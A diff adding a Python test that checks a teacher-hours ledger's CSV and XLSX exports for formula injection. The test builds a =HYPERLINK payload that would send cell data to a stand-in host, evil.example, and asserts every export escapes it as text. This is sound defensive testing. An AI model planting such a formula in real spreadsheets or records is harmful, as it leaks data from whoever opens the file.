@@ -229,3 +229,41 @@ async def test_report_counts_agree_with_each_teacher_evaluated_alone(district: D
         unmet = sum(counted["rule"] + " " in r["missing"] for r in rows)
         assert counted["applicable"] - counted["met"] == unmet, counted["rule"]
     assert body["shortfall"]["count"] == sum(r["compliant"] == "no" for r in rows)
+
+
+async def test_formula_names_are_inert_in_every_ledger_file(district: District) -> None:
+    """A teacher named `=HYPERLINK(...)` and an entry described so: every CSV and XLSX the
+    ledger writes shows the text, never a formula."""
+    evil = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
+    teacher = await district.register(name=evil)
+    await district.recognise(teacher, hours="12.0", description="@" + evil)
+    bureau = district.bureau()
+
+    def xlsx_texts(content: bytes) -> list[str]:
+        book = load_workbook(io.BytesIO(content))
+        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+        assert all(cell.data_type != "f" for cell in cells)
+        return [c.value for c in cells if isinstance(c.value, str)]
+
+    def csv_texts(content: bytes) -> list[str]:
+        return [v for line in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for v in line]
+
+    async def get(url: str, **params: str) -> bytes:
+        response = await district.client.get(url, params={"year": "2027", **params}, headers=bureau)
+        assert response.status_code == 200, response.text
+        return response.content
+
+    files = {
+        "compliance.xlsx": xlsx_texts(await get("/v1/reports/compliance", format="xlsx")),
+        "compliance.csv": csv_texts(await get("/v1/reports/compliance", format="csv")),
+        "transcript.xlsx": xlsx_texts(
+            await get(f"/v1/teachers/{teacher}/transcript", format="xlsx")
+        ),
+        "export.xlsx": xlsx_texts(await get("/v1/ledger/export", format="xlsx")),
+        "export.csv": csv_texts(await get("/v1/ledger/export", format="csv")),
+    }
+    for name, texts in files.items():
+        dangerous = [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert dangerous == [], name
+    assert "'" + evil in files["compliance.xlsx"] and "'" + evil in files["transcript.xlsx"]
+    assert "'@" + evil in files["export.csv"]
